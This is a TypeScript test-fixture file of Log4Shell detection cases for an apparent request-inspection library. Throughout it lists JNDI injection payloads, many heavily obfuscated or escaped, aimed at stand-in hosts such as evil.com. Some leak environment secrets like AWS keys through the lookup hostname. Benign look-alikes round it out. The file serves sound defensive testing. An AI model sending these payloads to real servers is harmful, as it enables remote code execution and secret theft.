// biome-ignore-all lint/suspicious/noTemplateCurlyInString: `${...}` here is attack text, not a forgotten template literal.
import type { ValueKind } from '../../inspectable.js';

/** A detection case: `expect` is the rule that must fire, or null when nothing may fire. */
export interface Log4shellCase {
  readonly input: string;
  readonly kind?: ValueKind;
  /** Defaults to `query.x`. */
  readonly location?: string;
  readonly expect: string | null;
}

/** Log4Shell cases shared by the unit test, the benchmark and the fuzz target. */
export const log4shellCases: readonly Log4shellCase[] = [
  // Plain and nested JNDI lookups, in any header or parameter.
  { input: '${jndi:ldap://evil.com/a}', expect: 'log4shell/jndi-lookup' },
  {
    input: 'Mozilla/5.0 ${jndi:ldap://evil.com/webshell}',
    kind: 'header-value',
    expect: 'log4shell/jndi-lookup',
  },
  { input: '${jndi:rmi://10.0.0.1:1099/Exploit}', expect: 'log4shell/jndi-lookup' },
  { input: '${jndi:dns://x.oast.me}', kind: 'header-value', expect: 'log4shell/jndi-lookup' },
  { input: '${JNDI:LDAPS://evil.com/a}', expect: 'log4shell/jndi-lookup' },
  { input: '${jndi:iiop://evil.com/a}', expect: 'log4shell/jndi-lookup' },
  { input: '${jndi:nis://evil.com/a}', expect: 'log4shell/jndi-lookup' },
  { input: '${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.com/a}', expect: 'log4shell/jndi-lookup' },
  { input: '${jndi:ldap://${hostName}.${sys:java.version}.oast.me}', expect: 'log4shell/jndi-lookup' },
  { input: 'x=${jndi:ldap://evil.com/a', expect: 'log4shell/jndi-lookup' },
  // Lookups that spell the keyword, with or without the `${` that would hold it.
  { input: 'j${::-nD}i${::-:}', expect: 'log4shell/obfuscated-jndi' },
  { input: "jn${date:}di${date:':'}", expect: 'log4shell/obfuscated-jndi' },
  { input: 'jn${env::-}di:', expect: 'log4shell/obfuscated-jndi' },
  { input: 'set JNDI_URL to ${JNDI_URL}', expect: null },
  // Obfuscations: defaults, case functions, date literals, base64, re-formed lookups.
  {
    input: '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.com/a}',
    expect: 'log4shell/jndi-lookup',
  },
  {
    input: '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.com/a}',
    expect: 'log4shell/jndi-lookup',
  },
  {
    input: '${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}://evil.com/a}',
    expect: 'log4shell/jndi-lookup',
  },
  { input: '${jndi:${lower:l}${lower:d}a${lower:p}://evil.com/a}', expect: 'log4shell/jndi-lookup' },
  { input: "${${date:'j'}${date:'n'}di:ldap://evil.com/a}", expect: 'log4shell/jndi-lookup' },
  { input: '${${base64:am5kaTpsZGFwOi8vZXZpbC5jb20vYQ==}}', expect: 'log4shell/jndi-lookup' },
  { input: '${${::-J}ndi:ldap://evil.com/a}', expect: 'log4shell/jndi-lookup' },
  { input: '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.com/a}', expect: 'log4shell/jndi-lookup' },
  { input: '$${env:x:-${env:y:-$}{jndi:ldap://evil.com/a}}}', expect: 'log4shell/jndi-lookup' },
  { input: '${${upper:jndi}:ldap://evil.com/a}', expect: 'log4shell/jndi-lookup' },
  { input: '${  jndi:ldap://evil.com/a}', expect: 'log4shell/jndi-lookup' },
  // Escape layers: percent, %u, entities with and without `;`, JS escapes, stacked.
  {
    input: '%24%7Bjndi%3Aldap%3A%2F%2Fevil.com%2Fa%7D',
    kind: 'query-value',
    expect: 'log4shell/jndi-lookup',
  },
  { input: '%2524%257Bjndi:ldap://evil.com/a%257D', kind: 'query-value', expect: 'log4shell/jndi-lookup' },
  { input: '%u0024%u007Bjndi:ldap://evil.com/a}', expect: 'log4shell/jndi-lookup' },
  { input: '$\\u007Bjndi:ldap://evil.com/a}', kind: 'body-value', expect: 'log4shell/jndi-lookup' },
  { input: '\\u0024\\u{7b}jndi:ldap://evil.com/a}', expect: 'log4shell/jndi-lookup' },
  { input: '\\x24\\x7bjndi:ldap://evil.com/a}', expect: 'log4shell/jndi-lookup' },
  { input: '$&lbrace;jndi:ldap://evil.com/a}', kind: 'body-value', expect: 'log4shell/jndi-lookup' },
  { input: '$&LCUB;jndi:ldap://evil.com/a}', expect: 'log4shell/jndi-lookup' },
  { input: '&#36;{jndi:ldap://evil.com/a}', expect: 'log4shell/jndi-lookup' },
  {
    input: '&#x24;&#000000000000000000123;jndi:ldap://evil.com/a}',
    kind: 'header-value',
    expect: 'log4shell/jndi-lookup',
  },
  { input: '&dollar;&lbrace;jndi&colon;ldap&colon;&sol;&sol;evil.com/a}', expect: 'log4shell/jndi-lookup' },
  { input: '$\\u0026lbrace;jndi:ldap://evil.com/a}', expect: 'log4shell/jndi-lookup' },
  { input: '$\\u0026#123;jndi:ldap://evil.com/a}', expect: 'log4shell/jndi-lookup' },
  { input: '$\\u0026lbracejndi:ldap://evil.com/a}', expect: 'log4shell/jndi-lookup' },
  { input: '\\u002524%7Bjndi%3Aldap%3A%2F%2Fevil.com%2Fa%7D', expect: 'log4shell/jndi-lookup' },
  { input: '%24&lcub;\\u006A&#110;di:ldap://evil.com/a}', expect: 'log4shell/jndi-lookup' },
  { input: '%26%2336%3B%7Bjndi%3Aldap%3A%2F%2Fevil.com%2Fa%7D', expect: 'log4shell/jndi-lookup' },
  // Lookups used to spell characters without a JNDI lookup we could resolve.
  { input: '${${::-x}${::-y}${::-z}:foo}', expect: 'log4shell/obfuscated-lookup' },
  { input: '${${lower:N}${lower:D}}', expect: 'log4shell/obfuscated-lookup' },
  // `${` hidden behind an entity or JS escape: nobody writes that honestly.
  { input: '{"foo": "$\\u0026lbracesomething"}', kind: 'body-name', expect: 'log4shell/hidden-lookup' },
  { input: '&#36;&#123;anything}', expect: 'log4shell/hidden-lookup' },
  // Data lookups: recon and exfiltration material, weaker alone.
  { input: '${env:AWS_SECRET_ACCESS_KEY}', kind: 'header-value', expect: 'log4shell/data-lookup' },
  { input: 'agent ${sys:java.version}', kind: 'header-value', expect: 'log4shell/data-lookup' },
  { input: '${java:os}', kind: 'query-value', expect: 'log4shell/data-lookup' },
  // Benign look-alikes: template literals, shell variables, prices, JSON, JNDI prose, encoded text.
  { input: 'Hello ${user.name}, your total is ${total}', kind: 'body-value', expect: null },
  { input: 'cp ${HOME:-/root}/.bashrc ${TARGET:-/tmp}/', kind: 'body-value', expect: null },
  { input: 'PORT=${PORT:-8080} HOST=${HOST:-0.0.0.0}', kind: 'body-text', expect: null },
  { input: 'echo "${A:-x}${B:-y}"', kind: 'body-value', expect: null },
  { input: 'const a = `${x}`; const b = "Tom \\u0026 Jerry";', kind: 'body-value', expect: null },
  { input: 'const url = `${base}/api/${id}`;', kind: 'body-value', expect: null },
  { input: 'Price: $100 {discount applied}', expect: null },
  { input: '$5.99', kind: 'query-value', expect: null },
  { input: 'We use JNDI and LDAP lookups at work: jndi:ldap://corp/', kind: 'body-value', expect: null },
  { input: 'jndi:ldap://example.com/a', kind: 'query-value', expect: null },
  { input: '%7B%22a%22%3A1%7D', kind: 'query-value', expect: null },
  { input: 'caf%C3%A9 &amp; cr&egrave;me', kind: 'query-value', expect: null },
  { input: 'C:\\Users\\me\\x64\\u0041', kind: 'body-value', expect: null },
  { input: '&#36;100 &#8364;50', kind: 'body-value', expect: null },
  { input: '{"$set": {"a": 1}}', kind: 'body-text', expect: null },
  { input: '$$$ sale $$$ {today}', expect: null },
  { input: '${', expect: null },
  { input: '${}', expect: null },
  { input: '}}}${${${', expect: null },
  {
    input: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36',
    kind: 'header-value',
    expect: null,
  },
  {
    input: 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
    expect: null,
  },
];
